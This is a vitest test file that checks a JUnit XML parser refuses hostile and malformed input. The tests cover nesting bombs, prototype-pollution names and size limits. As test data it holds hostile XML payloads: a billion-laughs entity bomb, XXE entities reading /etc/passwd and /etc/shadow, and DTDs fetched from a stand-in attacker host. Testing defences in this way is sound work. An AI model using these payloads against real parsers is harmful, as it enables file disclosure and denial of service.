import { describe, expect, it } from "vitest";
import { parseJUnit } from "./junit";

// Payloads that CI should never send but someone eventually will, by accident or on purpose. Each is refused with
// a message that says what is wrong, and nothing in them is expanded, fetched or read.

const BILLION_LAUGHS = `<?xml version="1.0"?>
<!DOCTYPE lolz [
  <!ENTITY lol "lol">
  <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
  <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
  <!ENTITY lol9 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
]>
<testsuites><testsuite name="&lol9;"><testcase name="&lol9;"/></testsuite></testsuites>`;

const XXE_FILE = `<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE testsuites [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<testsuites><testsuite name="s"><testcase name="a"><failure message="&xxe;"/></testcase></testsuite></testsuites>`;

const EXTERNAL_DTD = `<?xml version="1.0"?>
<!DOCTYPE testsuites SYSTEM "http://attacker.invalid/junit.dtd">
<testsuites/>`;

const PARAMETER_ENTITY = `<!DOCTYPE testsuites [<!ENTITY % remote SYSTEM "http://attacker.invalid/evil.dtd"> %remote;]><testsuites/>`;

const REFUSED = "DOCTYPE and entities are not accepted";

function errorOf(input: unknown, maxBytes?: number): string {
  const result = parseJUnit(input as string, maxBytes === undefined ? {} : { maxBytes });
  if (result.ok) throw new Error("expected the payload to be refused");
  return result.error;
}

describe("parseJUnit refuses entity attacks outright", () => {
  it.each([
    ["billion laughs", BILLION_LAUGHS],
    ["XXE reading file:///etc/passwd", XXE_FILE],
    ["an external DTD", EXTERNAL_DTD],
    ["a parameter entity fetching a remote DTD", PARAMETER_ENTITY],
    ["a DOCTYPE after a comment", `<!-- report --><!DOCTYPE testsuites><testsuites/>`],
    [
      "an HTML doctype with an internal subset",
      `<!DOCTYPE html [<!ENTITY x SYSTEM "file:///etc/passwd">]><html>&x;</html>`,
    ],
    ["a lower-case doctype", `<!doctype testsuites [<!entity a "b">]><testsuites/>`],
    ["an ENTITY declaration outside any DOCTYPE", `<testsuites><!ENTITY a "b"></testsuites>`],
    [
      "a DOCTYPE behind an unterminated comment",
      `<!-- <!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/shadow">]><testsuites/>`,
    ],
    [
      "a DOCTYPE behind an unterminated CDATA section",
      `<testsuites><![CDATA[ <!DOCTYPE x [<!ENTITY e "e">]><testsuites/>`,
    ],
  ])("%s", (_name, xml) => {
    expect(errorOf(xml)).toBe(REFUSED);
  });

  it("answers a billion laughs at once, without expanding anything", () => {
    const started = performance.now();
    expect(errorOf(BILLION_LAUGHS)).toBe(REFUSED);
    expect(performance.now() - started).toBeLessThan(100);
  });

  it("does not mistake DOCTYPE text in a CDATA section or a comment for a declaration", () => {
    const result = parseJUnit(`<testsuite><!-- <!DOCTYPE html> --><testcase name="renders the page">
      <failure><![CDATA[expected <!DOCTYPE html> and <!ENTITY nbsp> in the output]]></failure></testcase></testsuite>`);
    expect(result.ok && result.run.cases[0]?.message).toBe("expected <!DOCTYPE html> and <!ENTITY nbsp> in the output");
  });

  it("leaves an undeclared entity reference as written and never resolves an XInclude", () => {
    const result = parseJUnit(`<testsuite xmlns:xi="http://www.w3.org/2001/XInclude"><testcase name="&xxe;">
      <failure><xi:include href="file:///etc/passwd" parse="text"/></failure></testcase></testsuite>`);
    expect(result.ok && result.run.cases[0]).toMatchObject({ name: "&xxe;", status: "failed", message: null });
  });
});

describe("parseJUnit refuses malformed and wrong-shaped documents with the reason", () => {
  it.each([
    [
      "a truncated report",
      '<?xml version="1.0"?>\n<testsuites>\n  <testsuite name="api">\n    <testcase name="a"><failure>boom',
      "malformed XML at line 4: the document ends while <testsuites>, <testsuite>, <testcase>, <failure> are still open (truncated?)",
    ],
    [
      "a report cut inside an attribute",
      '<testsuites>\n<testsuite name="x',
      "malformed XML at line 2, column 11: Attributes for 'testsuite' have open quote.",
    ],
    [
      "a report cut inside the root's start tag",
      "<testsuites",
      "malformed XML at line 1, column 1: Unclosed tag 'testsuites'.",
    ],
    [
      "mismatched tags",
      "<testsuites>\n<testsuite>\n</testsuites>",
      "malformed XML at line 3, column 1: Expected closing tag 'testsuite' (opened in line 2, col 1) instead of closing tag 'testsuites'.",
    ],
    [
      "a bare ampersand in text",
      '<testsuite><testcase name="a"><failure>R & D</failure></testcase></testsuite>',
      "malformed XML at line 1, column 42: char '&' is not expected.",
    ],
    [
      "text after the root element",
      "<testsuites/>\n<!-- end -->\njunk",
      "malformed XML at line 3: text after the root element",
    ],
    ["two root elements", "<testsuite/><testsuite/>", "expected one root element, got <testsuite> and <testsuite>"],
    [
      "the wrong root",
      '<?xml version="1.0"?><results><test name="a"/></results>',
      "expected <testsuites> or <testsuite> as the root element, got <results>",
    ],
    [
      "a namespaced root",
      '<j:testsuites xmlns:j="urn:junit"/>',
      "expected <testsuites> or <testsuite> as the root element, got <j:testsuites>",
    ],
    [
      "an HTML error page",
      '<!DOCTYPE html>\n<html lang="en"><head><meta charset="utf-8"><title>502 Bad Gateway</title></head><body>nginx</body></html>',
      "expected JUnit XML, got an HTML page",
    ],
    [
      "an XHTML error page",
      '<?xml version="1.0"?>\n<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd">\n<html xmlns="http://www.w3.org/1999/xhtml"><body>Error 500</body></html>',
      "expected JUnit XML, got an HTML page",
    ],
    [
      "an HTML page without a doctype",
      "<html><body><h1>Sign in</h1><br></body></html>",
      "expected JUnit XML, got an HTML page",
    ],
    ["JSON", '{"tests": 12, "failures": 0}', "expected JUnit XML, got JSON"],
    ["a JSON array", '  [{"name": "a", "status": "passed"}]', "expected JUnit XML, got JSON"],
    ["plain text", "Bad Gateway", 'expected JUnit XML, got text that does not start with "<"'],
    ["an empty body", "", "the report is empty"],
    ["only whitespace and a byte-order mark", "\uFEFF  \n\t ", "the report is empty"],
    ["a number instead of text", 42, "expected JUnit XML as text, got a number"],
    ["an object instead of text", { testsuites: [] }, "expected JUnit XML as text, got an object"],
    [
      "a document of nothing but comment openers",
      "<!--".repeat(100_000),
      "malformed XML at line 1: Start tag expected.",
    ],
    [
      "a tag name 100,000 characters long, quoted only in part",
      `<testsuite>${"<".repeat(100_000)}`,
      `malformed XML at line 1, column 100012: Tag '${"<".repeat(195)}…`,
    ],
    [
      "a nesting bomb",
      `<testsuites>${"<testsuite>".repeat(150)}${"</testsuite>".repeat(150)}</testsuites>`,
      "could not read the XML: Maximum nested tags exceeded",
    ],
  ])("%s", (_name, input, error) => {
    expect(errorOf(input)).toBe(error);
  });

  it("refuses element names that would pollute Object.prototype, and pollutes nothing", () => {
    expect(errorOf("<testsuites><__proto__><polluted>yes</polluted></__proto__></testsuites>")).toBe(
      'could not read the XML: [SECURITY] Invalid name: "__proto__" is a reserved JavaScript keyword that could cause prototype pollution',
    );
    expect(errorOf('<testsuite><testcase name="a" constructor="x"/></testsuite>')).toBe(
      'could not read the XML: [SECURITY] Invalid name: "constructor" is a reserved JavaScript keyword that could cause prototype pollution',
    );
    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
  });
});

describe("parseJUnit size limit", () => {
  it("refuses a report over the default 10 MB, naming its size", () => {
    const xml = `<testsuites>${" ".repeat(10 * 1024 * 1024 - "<testsuites></testsuites>".length + 1)}</testsuites>`;
    expect(errorOf(xml)).toBe("the report is 10 MiB (10485761 bytes), over the 10 MiB limit");
  });

  it("accepts a report of exactly the limit", () => {
    const xml = `<testsuites>${" ".repeat(2048 - "<testsuites></testsuites>".length)}</testsuites>`;
    expect(parseJUnit(xml, { maxBytes: 2048 }).ok).toBe(true);
  });

  it("counts bytes, not characters", () => {
    // 700 "é" are 700 characters but 1,400 bytes in UTF-8; the rest of the element is 20.
    const xml = `<testsuite name="${"é".repeat(700)}"/>`;
    expect(xml.length).toBeLessThan(1024);
    expect(errorOf(xml, 1024)).toBe("the report is 1.4 KiB (1420 bytes), over the 1 KiB limit");
  });
});
